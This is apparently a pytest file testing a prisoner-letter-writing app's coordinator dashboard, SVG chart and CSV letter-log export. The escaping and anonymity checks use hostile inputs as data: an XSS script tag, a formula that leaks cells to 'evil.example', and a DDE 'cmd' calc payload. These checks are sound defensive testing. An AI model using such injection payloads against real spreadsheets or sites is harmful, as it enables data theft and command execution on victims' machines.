"""The coordinators' dashboard (letters per week, per prisoner, per campaign, replies and
returns), its SVG chart, and the letter log as CSV."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
from datetime import date, timedelta
from typing import Any

import pytest
from conftest import (
    count_statements,
    csrf_token,
    inline_scripts,
    make_facility,
    make_person,
    make_prisoner,
)
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select
from werkzeug.http import parse_options_header

from letters.dashboard import chart
from letters.dashboard import services as dashboard
from letters.extensions import db
from letters.letterlog.export import letter_log_csv
from letters.mail import services as mail
from letters.models import (
    Campaign,
    CampaignKind,
    Gender,
    LetterSent,
    Prisoner,
    ReturnReason,
    SentVia,
    Status,
    User,
)

# A Wednesday; its week starts on Monday 3 November.
TODAY = date(2025, 11, 5)
THIS_MONDAY = date(2025, 11, 3)
# 26 weeks ending with this one start 25 weeks before this Monday.
FIRST_MONDAY = date(2025, 5, 12)
SVG = "{http://www.w3.org/2000/svg}"


def sent(
    prisoner: Prisoner, on: date, letters: int = 1, campaign: Campaign | None = None
) -> LetterSent:
    row = LetterSent(
        prisoner_id=prisoner.id,
        sent_on=on,
        letters=letters,
        campaign_id=campaign.id if campaign else None,
    )
    db.session.add(row)
    return row


def campaign(name: str, **fields: Any) -> Campaign:
    row = Campaign(name=name, **fields)
    db.session.add(row)
    db.session.flush()
    return row


# --- letters per week -------------------------------------------------------------------------


def test_weekly_letters_sums_letters_by_monday_week(ctx: None) -> None:
    someone = make_person("Someone")
    sent(someone, TODAY, letters=4)
    sent(someone, TODAY)
    sent(someone, THIS_MONDAY, letters=3)
    sent(someone, THIS_MONDAY - timedelta(days=1), letters=2)  # Sunday: the week before
    sent(someone, FIRST_MONDAY, letters=5)  # the oldest day the chart shows
    sent(someone, FIRST_MONDAY - timedelta(days=1), letters=7)  # one day too old
    sent(someone, TODAY - timedelta(weeks=40), letters=9)
    db.session.flush()

    weeks = dashboard.weekly_letters(TODAY)

    assert len(weeks) == 26
    assert [monday for monday, _ in weeks] == [FIRST_MONDAY + timedelta(weeks=n) for n in range(26)]
    assert all(monday.weekday() == 0 for monday, _ in weeks)
    assert weeks[-1] == (THIS_MONDAY, 4 + 1 + 3)
    assert weeks[-2] == (THIS_MONDAY - timedelta(weeks=1), 2)
    assert weeks[0] == (FIRST_MONDAY, 5)
    assert sum(letters for _, letters in weeks) == 15


def test_weekly_letters_are_zero_filled_without_letters(ctx: None) -> None:
    weeks = dashboard.weekly_letters(TODAY, weeks=4)
    assert weeks == [(THIS_MONDAY - timedelta(weeks=n), 0) for n in (3, 2, 1, 0)]


# --- the chart --------------------------------------------------------------------------------


def series(values: list[int]) -> list[tuple[date, int]]:
    first = THIS_MONDAY - timedelta(weeks=len(values) - 1)
    return [(first + timedelta(weeks=n), value) for n, value in enumerate(values)]


def parse_svg(markup: str) -> ET.Element:
    # The app's own output, not untrusted input: ElementTree's XML attack surface is moot.
    return ET.fromstring(markup)  # noqa: S314


def bars(svg: ET.Element) -> list[ET.Element]:
    return svg.findall(f"{SVG}rect[@class='bar']")


@pytest.mark.parametrize(
    ("peak", "ticks"),
    [
        (0, [0]),
        (1, [0, 1]),
        (3, [0, 1, 2, 3]),
        (7, [0, 2, 4, 6, 8]),
        (12, [0, 5, 10, 15]),
        (140, [0, 50, 100, 150]),
        (2000, [0, 500, 1000, 1500, 2000]),
    ],
)
def test_gridlines_fall_on_round_values(peak: int, ticks: list[int]) -> None:
    assert chart.round_ticks(peak) == ticks


def test_chart_draws_one_bar_per_week_in_proportion(ctx: None) -> None:
    values = [(n * 7) % 13 for n in range(26)]
    values[-1] = 12
    svg = parse_svg(str(chart.weekly_chart(series(values))))

    assert svg.get("role") == "img"
    total = sum(values)
    assert svg.get("aria-label") == f"Letters per week for 26 weeks: {total} in total"
    assert svg.findtext(f"{SVG}title") == svg.get("aria-label")
    drawn = bars(svg)
    assert len(drawn) == 26
    heights = [float(bar.get("height", "")) for bar in drawn]
    per_letter = heights[values.index(max(values))] / max(values)
    assert per_letter > 0
    for value, height in zip(values, heights, strict=True):
        assert height == pytest.approx(value * per_letter, abs=0.02)
    # Bars stand on one baseline.
    bottoms = {round(float(b.get("y", "")) + float(b.get("height", "")), 1) for b in drawn}
    assert len(bottoms) == 1
    assert drawn[-1].findtext(f"{SVG}title") == "week of Nov 3: 12 letters"
    assert drawn[values.index(1)].findtext(f"{SVG}title").endswith(": 1 letter")
    # Gridlines at round values, the top one at or above the highest week.
    ticks = [text.text for text in svg.findall(f"{SVG}text[@class='tick']")]
    assert ticks == ["0", "5", "10", "15"]


def test_chart_names_the_month_under_the_week_it_starts_in(ctx: None) -> None:
    svg = parse_svg(str(chart.weekly_chart(series([1] * 26))))
    months = [text.text for text in svg.findall(f"{SVG}text[@class='month']")]
    # 12 May 2025 to 3 November 2025: June's first Monday is the 2nd, ... November's the 3rd.
    assert months == ["Jun", "Jul", "Aug", "Sep", "Oct", "Nov"]


def test_chart_speaks_the_visitors_language(app: Flask) -> None:
    with app.test_request_context(headers={"Accept-Language": "ru"}):
        svg = parse_svg(str(chart.weekly_chart(series([2] * 26))))
    months = [text.text for text in svg.findall(f"{SVG}text[@class='month']")]
    assert months[-1] == "нояб."
    assert "3 нояб." in (bars(svg)[-1].findtext(f"{SVG}title") or "")


def test_chart_without_letters_is_a_valid_flat_chart(ctx: None) -> None:
    markup = str(chart.weekly_chart(series([0] * 26)))
    svg = parse_svg(markup)
    assert [float(bar.get("height", "")) for bar in bars(svg)] == [0.0] * 26
    assert "nan" not in markup.lower()
    assert "inf" not in markup.lower()
    assert svg.get("aria-label") == "Letters per week for 26 weeks: 0 in total"
    assert [text.text for text in svg.findall(f"{SVG}text[@class='tick']")] == ["0"]


def test_chart_has_no_style_attributes(ctx: None) -> None:
    # The Content-Security-Policy (style-src 'self') would block them.
    markup = str(chart.weekly_chart(series(list(range(26)))))
    assert "style=" not in markup
    assert "<script" not in markup


# --- per prisoner -----------------------------------------------------------------------------


def test_prisoners_longest_silence_first_never_written_before_all(ctx: None) -> None:
    recent = make_person("Recent")
    old = make_person("Old")
    never = make_person("Never", is_listed=False)
    released = make_person("Released", status=Status.RELEASED)
    sent(recent, TODAY - timedelta(days=2), letters=2)
    sent(recent, TODAY - timedelta(days=90), letters=5)  # outside the 60 recent days
    sent(old, TODAY - timedelta(days=100))
    mail.record_reply(old, TODAY - timedelta(days=10))
    mail.record_reply(old, TODAY - timedelta(days=400))
    mail.record_return(recent, TODAY - timedelta(days=1), ReturnReason.MOVED)
    db.session.flush()

    rows = dashboard.prisoner_activity(TODAY).items

    by_name = {row.name: row for row in rows}
    # Released people go last however long it has been: nobody can write to them now.
    assert [row.prisoner_id for row in rows] == [never.id, old.id, recent.id, released.id]
    assert by_name["A Never"].days_since_last is None
    assert by_name["A Never"].last_letter_on is None
    assert by_name["A Never"].is_listed is False
    assert by_name["A Never"].total_letters == 0
    assert by_name["A Old"].days_since_last == 100
    assert (by_name["A Old"].replies, by_name["A Old"].returns) == (2, 0)
    assert by_name["A Recent"].days_since_last == 2
    assert by_name["A Recent"].last_letter_on == TODAY - timedelta(days=2)
    assert by_name["A Recent"].recent_letters == 2
    assert by_name["A Recent"].total_letters == 7
    assert (by_name["A Recent"].replies, by_name["A Recent"].returns) == (0, 1)
    assert by_name["A Recent"].address_needs_checking is True
    assert by_name["A Old"].address_needs_checking is False
    assert by_name["A Released"].can_receive is False


def test_prisoner_activity_costs_the_same_for_many_prisoners(ctx: None) -> None:
    facility = make_facility()
    for n in range(12):
        someone = make_prisoner(facility, family_name=f"P{n}")
        sent(someone, TODAY - timedelta(days=n))
        mail.record_reply(someone, TODAY)
    db.session.flush()
    with count_statements() as statements:
        rows = dashboard.prisoner_activity(TODAY, per_page=50).items
    assert len(rows) == 12
    assert all(row.replies == 1 for row in rows)
    # "Is the day summed?", how many there are, the page's ids and figures, and the page's
    # prisoners with their mail.
    assert len(statements) == 4
    # Mail is grouped for the page's prisoners only, not for everyone.
    (mail_query,) = [sql for sql in statements if "FROM mail_events" in sql]
    assert "mail_events.prisoner_id IN" in mail_query


def test_a_dashboard_page_past_the_end_is_empty(ctx: None) -> None:
    make_person("Someone")
    db.session.flush()
    page = dashboard.prisoner_activity(TODAY, page=3, per_page=50)
    assert page.items == []
    assert page.total == 1


# --- per campaign -----------------------------------------------------------------------------


def test_campaigns_count_their_letters_and_the_people_written_to(ctx: None) -> None:
    one, two = make_person("One"), make_person("Two")
    evening = campaign(
        "Evening in May", kind=CampaignKind.EVENING, starts_on=date(2025, 5, 20), goal=10
    )
    week = campaign(
        "Solidarity week",
        kind=CampaignKind.CAMPAIGN,
        starts_on=date(2025, 10, 1),
        ends_on=date(2025, 10, 7),
        goal=4,
    )
    campaign("Nobody came", starts_on=date(2025, 9, 1))
    sent(one, date(2025, 5, 20), letters=3, campaign=evening)
    sent(one, date(2025, 5, 20), letters=2, campaign=evening)
    sent(two, date(2025, 5, 20), campaign=evening)
    sent(two, date(2025, 10, 2), letters=6, campaign=week)
    sent(two, date(2025, 10, 2), letters=50)  # counted to no campaign
    db.session.flush()

    rows = dashboard.campaign_progress()

    assert [row.campaign.name for row in rows] == [
        "Solidarity week",
        "Nobody came",
        "Evening in May",
    ]
    by_name = {row.campaign.name: row for row in rows}
    assert by_name["Evening in May"].progress.letters == 6
    assert by_name["Evening in May"].progress.people == 2
    assert by_name["Evening in May"].progress.percent == 60
    assert by_name["Evening in May"].goal_progress == 60
    assert by_name["Solidarity week"].progress.letters == 6
    assert by_name["Solidarity week"].progress.people == 1
    # A goal beaten is news (150 %); the progress bar stops at full.
    assert by_name["Solidarity week"].progress.percent == 150
    assert by_name["Solidarity week"].goal_progress == 100
    assert by_name["Nobody came"].progress.letters == 0
    assert by_name["Nobody came"].progress.people == 0
    assert by_name["Nobody came"].goal_progress is None


def test_the_dashboard_shows_the_newest_campaigns_and_links_to_all(
    app: Flask, client: FlaskClient, auth: Any
) -> None:
    auth.create_and_login()
    today = date.today()
    someone = make_person("Someone")
    shown = dashboard.DASHBOARD_CAMPAIGNS
    drives = [campaign(f"Drive {n}", starts_on=today - timedelta(days=n)) for n in range(shown + 2)]
    for n, drive in enumerate(drives):
        sent(someone, today - timedelta(days=n), letters=n + 1, campaign=drive)
    db.session.commit()
    ids = [drive.id for drive in drives]

    with count_statements() as statements:
        figures = dashboard.overview(today)

    assert [row.campaign.id for row in figures.campaigns] == ids[:shown]
    assert [row.progress.letters for row in figures.campaigns] == list(range(1, shown + 1))
    assert figures.campaigns_total == shown + 2
    # Only the campaigns shown have their letters grouped.
    grouped = [sql for sql in statements if "GROUP BY letters_sent.campaign_id" in sql]
    assert len(grouped) == 1
    html = client.get("/manage/dashboard").get_data(as_text=True)
    for campaign_id in ids[:shown]:
        assert f'id="campaign-{campaign_id}"' in html
    for campaign_id in ids[shown:]:
        assert f'id="campaign-{campaign_id}"' not in html
    assert f"All {shown + 2} evenings and campaigns" in html
    assert 'href="/manage/campaigns"' in html


def test_the_dashboard_has_no_link_to_more_campaigns_when_it_shows_them_all(
    app: Flask, client: FlaskClient, auth: Any
) -> None:
    auth.create_and_login()
    campaign("The only one")
    db.session.commit()
    html = client.get("/manage/dashboard").get_data(as_text=True)
    assert "The only one" in html
    assert "evenings and campaigns</a>" not in html


# --- replies and returns ----------------------------------------------------------------------


def test_mail_summary_counts_the_chart_weeks_and_lists_the_latest(ctx: None) -> None:
    one, two = make_person("One"), make_person("Two")
    mail.record_reply(one, TODAY)
    mail.record_reply(two, FIRST_MONDAY)
    mail.record_reply(two, FIRST_MONDAY - timedelta(days=1))  # before the chart's weeks
    mail.record_return(one, TODAY - timedelta(days=3), ReturnReason.MOVED, "to IK-5")
    mail.record_return(two, TODAY - timedelta(days=4), ReturnReason.REFUSED_BY_CENSOR)
    mail.record_return(two, TODAY - timedelta(days=5), ReturnReason.REFUSED_BY_CENSOR)
    db.session.flush()

    summary = dashboard.mail_summary(TODAY, limit=4)

    assert summary.since == FIRST_MONDAY
    assert summary.replies == 2
    assert summary.returns == 3
    assert summary.returns_by_reason == {
        ReturnReason.MOVED: 1,
        ReturnReason.REFUSED_BY_CENSOR: 2,
    }
    assert [(e.name, e.happened_on) for e in summary.recent] == [
        ("A One", TODAY),
        ("A One", TODAY - timedelta(days=3)),
        ("A Two", TODAY - timedelta(days=4)),
        ("A Two", TODAY - timedelta(days=5)),
    ]
    assert summary.recent[1].return_reason == ReturnReason.MOVED
    assert summary.recent[1].note == "to IK-5"


# --- the pages --------------------------------------------------------------------------------


@pytest.mark.parametrize("path", ["/manage/dashboard", "/manage/letters.csv"])
def test_dashboard_and_letter_log_need_a_coordinator(client: FlaskClient, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/login")


def test_dashboard_shows_the_chart_campaigns_prisoners_and_mail(
    app: Flask, client: FlaskClient, auth: Any
) -> None:
    auth.create_and_login()
    today = date.today()
    forgotten = make_person("Forgotten")
    written = make_person("<script>alert(1)</script>")
    drive = campaign("Winter cards", goal=20)
    sent(written, today, letters=3, campaign=drive)
    mail.record_return(written, today, ReturnReason.MOVED)
    db.session.commit()
    forgotten_id, written_id, drive_id = forgotten.id, written.id, drive.id

    response = client.get("/manage/dashboard")

    assert response.status_code == 200
    html = response.get_data(as_text=True)
    found = re.search(r"<svg\b.*?</svg>", html, re.S)
    assert found
    svg = parse_svg(found.group(0))
    assert len(bars(svg)) == 26
    assert "Letters per week for 26 weeks: 3 in total" in html
    assert f'href="/manage/campaigns/{drive_id}">Winter cards</a>' in html
    assert "15% of 20" in html
    assert f'href="/manage/prisoners/{forgotten_id}/edit"' in html
    assert f'href="/manage/prisoners/{written_id}/edit"' in html
    # Never written to comes before someone written to today.
    assert html.index(f'id="prisoner-{forgotten_id}"') < html.index(f'id="prisoner-{written_id}"')
    assert "never written to" in html
    assert "letter came back" in html
    assert 'href="/manage/letters.csv"' in html
    # A name is text, never markup; and nothing the CSP would block.
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert " style=" not in html
    assert inline_scripts(html) == []


def test_letter_log_exports_inert_cells_and_no_volunteer_identity(
    app: Flask, client: FlaskClient, auth: Any
) -> None:
    email = auth.create_and_login()
    user_id = db.session.scalar(select(User.id).where(User.email == email))
    trap = make_prisoner(
        make_facility(),
        given_names='=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        patronymic="",
        family_name="Trap",
        latin_name="",
    )
    plain = make_person("Plain")
    drive = campaign("+SUM(1,1)")
    db.session.add(
        LetterSent(
            prisoner_id=trap.id,
            sent_on=date(2025, 3, 2),
            letters=2,
            campaign_id=drive.id,
            via=SentVia.COORDINATOR,
            user_id=user_id,
        )
    )
    db.session.add(LetterSent(prisoner_id=plain.id, sent_on=date(2025, 3, 1)))
    db.session.commit()
    trap_id, plain_id = trap.id, plain.id

    response = client.get("/manage/letters.csv")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert parse_options_header(response.headers["Content-Disposition"]) == (
        "attachment",
        {"filename": f"letters-{date.today().isoformat()}.csv"},
    )
    assert response.headers["Cache-Control"] == "no-store"
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # a byte-order mark, for Excel
    text = body.decode("utf-8-sig")
    assert email not in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == [
        "sent_on",
        "prisoner_id",
        "prisoner_name",
        "letters",
        "via",
        "campaign",
        "recorded_on",
    ]
    assert [row[:2] for row in rows[1:]] == [
        ["2025-03-01", str(plain_id)],
        ["2025-03-02", str(trap_id)],
    ]
    trap_row = rows[2]
    assert trap_row[2] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click") Trap'
    assert trap_row[3:6] == ["2", "coordinator", "'+SUM(1,1)"]
    assert trap_row[6] == date.today().isoformat()  # the day it was entered, no time of day
    assert rows[1][2:6] == ["A Plain", "1", "web", ""]
    # No cell anywhere starts a formula.
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_letter_log_protects_each_repeated_name_and_campaign_exactly_once(ctx: None) -> None:
    """Names and campaigns are protected once per distinct value and reused for every row: a
    value that already looks protected (``'=``) gets one more quote on every row, never two."""

    def named(given: str) -> Prisoner:
        return make_prisoner(family_name="X", given_names=given, patronymic="", latin_name="")

    trap = named("=cmd|' /C calc'!A0")
    quoted = named("'=already quoted")
    drive = campaign("@SUM(1)")
    for day in (1, 2, 3):
        sent(trap, date(2025, 3, day), campaign=drive)
        sent(quoted, date(2025, 3, day))
    db.session.flush()

    rows = list(csv.reader(io.StringIO(letter_log_csv(), newline="")))[1:]

    assert len(rows) == 6
    by_id = {str(trap.id): "'=cmd|' /C calc'!A0 X", str(quoted.id): "''=already quoted X"}
    for row in rows:
        assert row[2] == by_id[row[1]]
        assert row[5] == ("'@SUM(1)" if row[1] == str(trap.id) else "")
        assert row[0] in {"2025-03-01", "2025-03-02", "2025-03-03"}
        assert row[6] == date.today().isoformat()


def test_the_letter_log_after_an_anonymous_i_sent_it_holds_no_time_of_day(
    app: Flask, client: FlaskClient, auth: Any
) -> None:
    prisoner = make_person("Anon")
    prisoner_id = prisoner.id
    db.session.commit()
    token = csrf_token(client, f"/prisoners/{prisoner_id}")
    assert (
        client.post(f"/prisoners/{prisoner_id}/sent", data={"csrf_token": token}).status_code == 302
    )
    auth.create_and_login()
    text = client.get("/manage/letters.csv").get_data().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    today = date.today().isoformat()
    assert rows[1] == [today, str(prisoner_id), "A Anon", "1", "web", "", today]
    assert not re.search(r"\d\d:\d\d", text)


def test_the_letter_log_is_ordered_by_what_it_says_not_by_when_rows_were_added(
    app: Flask, client: FlaskClient, auth: Any
) -> None:
    """Insert order beside an ISP's log of who reached the site in what order would link
    rows to visitors: the export's order must not show it."""
    auth.create_and_login()
    first, second = make_person("Zeta"), make_person("Alpha")
    day = date(2025, 3, 1)
    for prisoner in (second, first, second):  # inserted Alpha, Zeta, Alpha
        db.session.add(LetterSent(prisoner_id=prisoner.id, sent_on=day, recorded_on=day))
    db.session.commit()
    inserted = [second.id, first.id, second.id]
    rows = list(csv.reader(io.StringIO(letter_log_csv(), newline="")))[1:]
    assert [int(row[1]) for row in rows] == sorted(inserted)


@pytest.mark.parametrize(
    ("gender", "said", "not_said"),
    [
        (Gender.FEMALE, "Умерла в заключении", "Умер(ла)"),
        (Gender.MALE, "Умер в заключении", "Умер(ла)"),
        (None, "Умер(ла) в заключении", "Умерла"),
    ],
)
def test_the_dashboard_says_a_status_in_the_prisoners_gender(
    app: Flask, client: FlaskClient, auth: Any, gender: Gender | None, said: str, not_said: str
) -> None:
    auth.create_and_login()
    make_person("Remembered", status=Status.DECEASED, gender=gender)
    db.session.commit()
    html = client.get("/manage/dashboard", headers={"Accept-Language": "ru"}).get_data(as_text=True)
    assert said in html
    assert not_said not in html


def test_the_dashboard_shows_a_page_of_prisoners_neediest_first_and_finds_by_name(
    app: Flask, client: FlaskClient, auth: Any
) -> None:
    """At 10,000 prisoners the table was 6 MB of HTML: it shows 50 at a time, with pages and
    a name filter, the longest-waiting first."""
    auth.create_and_login()
    facility = make_facility()
    today = date.today()
    people = []
    for n in range(120):
        person = make_person(f"Person{n:03d}", facility=facility)
        people.append(person)
    db.session.flush()
    for n, person in enumerate(people):
        if n % 10:  # every tenth never written to
            sent(person, today - timedelta(days=n))
    db.session.commit()

    first = client.get("/manage/dashboard").get_data(as_text=True)
    names = re.findall(r"A (Person\d{3})</a>", first)
    assert len(names) == 50
    # Never written to first (by name), then the longest silences.
    never = [f"Person{n:03d}" for n in range(0, 120, 10)]
    assert names[:12] == never
    assert names[12:15] == ["Person119", "Person118", "Person117"]
    assert "Page 1 of 3" in first
    last = client.get("/manage/dashboard?page=3").get_data(as_text=True)
    assert len(re.findall(r"A (Person\d{3})</a>", last)) == 20
    assert "Page 3 of 3" in last

    found = client.get("/manage/dashboard?q=person11").get_data(as_text=True)
    assert sorted(re.findall(r"A (Person\d{3})</a>", found)) == [
        f"Person{n}" for n in range(110, 120)
    ]
    nobody = client.get("/manage/dashboard?q=nobody").get_data(as_text=True)
    assert "No prisoner’s name holds “nobody”." in nobody.replace("&#39;", "’").replace("'", "’")
    # A page past the end, or not a number, is not an error.
    assert client.get("/manage/dashboard?page=99").status_code == 200
    assert client.get("/manage/dashboard?page=x").status_code == 200
